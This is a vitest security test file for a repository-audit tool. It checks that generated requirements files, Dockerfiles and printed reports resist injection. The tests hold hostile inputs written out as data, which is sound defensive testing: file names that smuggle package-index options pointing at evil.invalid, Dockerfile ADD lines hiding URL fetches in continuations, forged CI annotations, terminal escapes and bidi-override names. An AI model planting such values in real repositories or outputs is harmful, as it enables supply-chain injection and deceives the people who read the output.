// The injection corpus: names and text from the audited repo (or a leaderboard) that try to write their own
// lines into files other programs parse. Each output is read back by the program that would parse it (pip's
// own requirements parser, the real container engine) and must hold only what the audit meant to write.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { extractFacts } from "../../src/extract/index.js";
import { STATIC_EXTRACTORS } from "../../src/extract/families/index.js";
import { walkRepo } from "../../src/extract/view/walk.js";
import { runBuildStage, type BuildStageResult } from "../../src/provision/build-stage.js";
import { findEngine } from "../../src/provision/engine.js";
import { runCli } from "../support/cli.js";
import { BASE_IMAGE, requireEngine } from "../support/engine.js";
import { writeFiles } from "../clone/git-fixture.js";

const engine = await requireEngine();
const work = mkdtempSync(join(tmpdir(), "ra-inject-"));
/** The bin runs with a HOME of its own: nothing it writes lands in the user's. */
const HOME = { HOME: join(work, "home"), XDG_CACHE_HOME: join(work, "home", ".cache") };
/** A server on loopback that records what is asked of it: the engine's own fetches land here. */
let server: Server;
let port = 0;
const requested: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    requested.push(req.url ?? "");
    res.statusCode = 404;
    res.end();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  port = (server.address() as { port: number }).port;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((done) => server.close(() => done()));
  rmSync(work, { recursive: true, force: true });
});

async function engineBin(): Promise<string> {
  const found = await findEngine("auto");
  if (!found.ok) throw new Error(found.message);
  return found.engine.bin;
}

/** The real engine's reading of a Dockerfile: a legacy-builder build, no network for its steps, bounded. */
async function engineBuild(dir: string): Promise<void> {
  await execa(
    await engineBin(),
    ["build", "--network", "none", "--rm", "--force-rm", "-f", join(dir, "Dockerfile"), dir],
    {
      reject: false,
      stdin: "ignore",
      timeout: 120_000,
      env: { DOCKER_BUILDKIT: "0" },
    },
  );
}

/** The audit's build stage on a repo folder, as the pipeline runs it (its files go beside the repo). */
async function auditBuild(root: string, options: { baseImage?: string } = {}): Promise<BuildStageResult> {
  const view = await walkRepo(root);
  const facts = await extractFacts(view, STATIC_EXTRACTORS, { branches: null });
  return runBuildStage({
    root,
    view,
    facts,
    outDir: join(root, "..", "out"),
    engine: "auto",
    timeoutSeconds: 300,
    handleInterrupt: false,
    allowImages: [],
    ...options,
  });
}

/** What pip's own requirements-file parser reads from a file: each line's requirement and the options it sets. */
function pipReads(file: string): Array<{ requirement: string | null; options: string[] }> {
  const script = [
    "import json, sys",
    "from pip._internal.network.session import PipSession",
    "from pip._internal.req.req_file import RequirementsFileParser, get_line_parser",
    "for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(sys.argv[1], constraint=False):",
    "    fc = lambda v: bool(v.no_binary or v.only_binary)",
    "    opts = sorted(k for k, v in vars(line.opts).items() if (fc(v) if k == 'format_control' else v)) if line.opts else []",
    "    print(json.dumps({'requirement': line.requirement if line.is_requirement else None, 'options': opts}))",
  ].join("\n");
  const out = execFileSync("python3", ["-c", script, file], {
    encoding: "utf8",
    env: { ...process.env, PIP_CONFIG_FILE: "/dev/null" },
  });
  return out
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { requirement: string | null; options: string[] });
}

describe("requirements output", () => {
  it("keeps repo file names inside their comments: pip reads only the imported distributions, no options", () => {
    const root = join(work, "req-names");
    writeFiles(root, {
      // An importing file whose name ends the comment and writes its own requirement and index.
      "a\nevil-package==6.6.6\n--extra-index-url http://evil.invalid/simple\n#.py": "import numpy\n",
      // A trailing backslash would join the next line onto this one; a continuation writes an option.
      "b\\": "",
      "c\\\n--extra-index-url http://evil.invalid/c\\\n.py": "import pandas\n",
      // A README that states a version (so its name is quoted as the version's source).
      "x\n--index-url http://evil.invalid/d\n/README.md": "### Library Requirements\n1. requests: 2.31.0\n",
      "main.py": "import requests\ntry:\n    import yaml\nexcept ImportError:\n    pass\n",
      "opt\n--trusted-host evil.invalid\n.py": "try:\n    import toml\nexcept ImportError:\n    pass\n",
      "requirements-\n--find-links http://evil.invalid/e\n.txt": "numpy\n",
    });
    const out = join(work, "req-names.txt");
    const result = runCli(["requirements", root, "--out", out], HOME);
    expect(result.code, result.stderr).toBe(0);
    const read = pipReads(out);
    expect(read.flatMap((l) => l.options)).toEqual([]);
    expect(read.map((l) => l.requirement).sort()).toEqual(["Requests==2.31.0", "numpy", "pandas"]);
    // Every line the repo's names reach is a comment or a requirement this audit wrote.
    for (const line of readFileSync(out, "utf8").split("\n"))
      expect(line).toMatch(/^(#.*|[A-Za-z0-9._-]+(==[\w.]+)?\s+#.*|)$/);
  });
});

/** Dockerfiles whose ADD fetches a URL the way the engine reads them, though a line-by-line or space-joined
 * reading sees no URL. `%URL%` is the loopback server's address, `%P%` its port. */
const SMUGGLED_ADDS: Array<[string, string]> = [
  ["a continuation joined with nothing", "FROM scratch\nADD http:/\\\n/127.0.0.1:%P%/continued /x\n"],
  ["a quoted source", 'FROM scratch\nADD "%URL%/quoted" /x\n'],
  ["a backslash escape inside the source", "FROM scratch\nADD h\\ttp://127.0.0.1:%P%/escaped /x\n"],
  [
    "the escape directive's backtick continuation",
    "# escape=`\nFROM scratch\nADD http:/`\n/127.0.0.1:%P%/backtick /x\n",
  ],
  ["a comment inside the continuation", "FROM scratch\nADD http:/\\\n# a comment\n/127.0.0.1:%P%/commented /x\n"],
  ["the JSON form with a quoted word", 'FROM scratch\nADD ["\\"%URL%/json\\"", "/x"]\n'],
];

describe.skipIf(!engine)("a repo's own Dockerfile, read as the engine reads it", () => {
  for (const [name, template] of SMUGGLED_ADDS) {
    it(`refuses an ADD URL smuggled in by ${name}: the engine would fetch it, the audit fetches nothing`, async () => {
      const text = template.replaceAll("%URL%", `http://127.0.0.1:${port}`).replaceAll("%P%", String(port));
      const path = text.match(/127\.0\.0\.1:\d+(\/\w+)/)![1]!;
      const dir = join(work, `engine-${path.slice(1)}`);
      writeFiles(dir, { Dockerfile: text });
      await engineBuild(dir);
      const engineFetched = requested.includes(path);

      const root = join(work, `audit-${path.slice(1)}`, "repo");
      writeFiles(root, { Dockerfile: text, "main.py": "print('hi')\n" });
      requested.length = 0;
      const result = await auditBuild(root);
      expect(requested).toEqual([]);
      expect(result.section.build.status).toBe("failed");
      expect(result.section.build.failureClass).toBe("not-allowed");
      expect(result.records["environment-build"][0]!.detail).toMatch(/line \d+: ADD /);
      // Only now: the engine's reading, so a failure above is about the audit, not the engine.
      expect(engineFetched, `the engine did not fetch ${path}: the case no longer shows a hole`).toBe(true);
    });
  }
});

describe.skipIf(!engine)("the Dockerfile the audit writes", () => {
  it("refuses a spec path with control characters: its newlines write no FROM, ADD or RUN of their own", async () => {
    const root = join(work, "generated-newline", "repo");
    // Folder names end the header comment, start a stage and continue lines into `ADD http://...` (a path
    // cannot hold "//", a continuation can).
    const spec = `r ./\nFROM scratch\nADD http:\\\n/\\\n/127.0.0.1:${port}/gen /x\n#/requirements.txt`;
    writeFiles(root, { [spec]: "\n", r: "", "main.py": "print('hi')\n" });
    requested.length = 0;
    const result = await auditBuild(root, { baseImage: BASE_IMAGE });
    expect(requested).toEqual([]);
    expect(result.section.build.status).toBe("failed");
    expect(result.section.build.failureClass).toBe("not-allowed");
    expect(result.records["environment-build"][0]!.detail).toContain("control characters");
    // The file written for people holds the name escaped, on the lines the audit meant.
    const written = readFileSync(join(root, "..", "out", "Dockerfile"), "utf8");
    expect(
      written
        .split("\n")
        .filter((l) => /^[A-Z]+ /.test(l))
        .map((l) => l.split(" ")[0]),
    ).toEqual(["FROM", "ENV", "RUN", "USER", "RUN", "ENV", "WORKDIR", "COPY", "RUN", "COPY"]);
  });

  it("copies a spec whose name holds quotes, a dollar sign and blanks as that very file", async () => {
    const root = join(work, "generated-quotes", "repo");
    const spec = `requirements $HOME 'q' "d".txt`;
    writeFiles(root, { [spec]: "\n", "main.py": "print('hi')\n" });
    const result = await auditBuild(root, { baseImage: BASE_IMAGE });
    expect(result.section.build.status, result.section.build.logTail ?? "").toBe("built");
    const bin = await engineBin();
    const listed = await execa(
      bin,
      ["run", "--rm", "--network", "none", "--entrypoint", "ls", result.section.image!, "-1"],
      { reject: false, stdin: "ignore", timeout: 60_000 },
    );
    await execa(bin, ["rmi", "-f", result.section.image!], { reject: false, stdin: "ignore" });
    expect(String(listed.stdout).split("\n")).toContain(spec);
  });
});

/** Characters that act instead of showing: terminal escapes, line breaks, bidi overrides and isolates. */
const ACTING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const HOSTILE_NAMES = [
  "evil\n::error title=pwned::forged annotation",
  "\u202egnp.exe",
  "title \u001b]0;pwned\u0007 \u001b[2J",
  "iso\u2066late\u2069 \u200f",
];

describe("text from a leaderboard or a repo, printed", () => {
  it("batch progress and every batch format show team names escaped: no forged CI command, escape or bidi control", () => {
    const dir = join(work, "batch-names");
    const file = join(dir, "board.json");
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      file,
      JSON.stringify({
        competition: "c",
        runtimeLimitHours: 9,
        minEntries: 3,
        teams: HOSTILE_NAMES.map((name, i) => ({ rank: i + 1, name, entries: 5, privateScore: 0.9 - i / 100 })),
      }),
    );
    const out = join(dir, "out");
    const result = runCli(["batch", file, "--stages", "static", "--out", out, "--cache-dir", join(dir, "cache")], {
      CI: "1",
      ...HOME,
    });
    expect(result.code, result.stderr).toBe(0);
    for (const line of result.stderr.split("\n")) expect(line).not.toMatch(/^::/);
    expect(result.stderr).not.toMatch(ACTING);
    expect(result.stdout).not.toMatch(ACTING);
    expect(result.stderr).toContain("evil\\x0a::error title=pwned::forged annotation");
    for (const name of ["batch.md", "batch.html", "batch.json"])
      expect(readFileSync(join(out, name), "utf8"), name).not.toMatch(ACTING);
    // JSON keeps the value: the escapes are JSON's own.
    expect(JSON.parse(readFileSync(join(out, "batch.json"), "utf8")).rows.map((r: { name: string }) => r.name)).toEqual(
      HOSTILE_NAMES,
    );
  });

  it("every format of an audit, and of its saved report, shows repo text escaped", () => {
    const root = join(work, "report-names", "repo");
    writeFiles(root, {
      "README.md": "# Solution\n\nTrain: `python train.py`\n",
      "train.py": "import numpy\n",
      [`\u202eyp.\u001b[2Jbroken.py`]: "def f(:\n",
      [`notes\u2067/x\u001b]8;;http://evil.invalid\u0007.py`]: "print 'py2'\n",
    });
    const saved = join(work, "report-names", "report.json");
    const audit = runCli(["audit", root, "--stages", "static", "--format", "json", "--out", saved], HOME);
    expect([0, 1], audit.stderr).toContain(audit.code);
    const report = JSON.parse(readFileSync(saved, "utf8")) as { notes: string[] };
    report.notes.push("a note \u001b[31mred\u001b[0m \u202ereversed");
    writeFileSync(saved, JSON.stringify(report));
    for (const format of ["text", "md", "sarif", "json"]) {
      const fresh = runCli(["audit", root, "--stages", "static", "--format", format], HOME);
      expect(fresh.stdout, `audit --format ${format}`).not.toMatch(ACTING);
      const again = runCli(["report", saved, "--format", format], HOME);
      expect([0, 1], again.stderr).toContain(again.code);
      expect(again.stdout.length).toBeGreaterThan(0);
      expect(again.stdout, `report --format ${format}`).not.toMatch(ACTING);
    }
  });
});
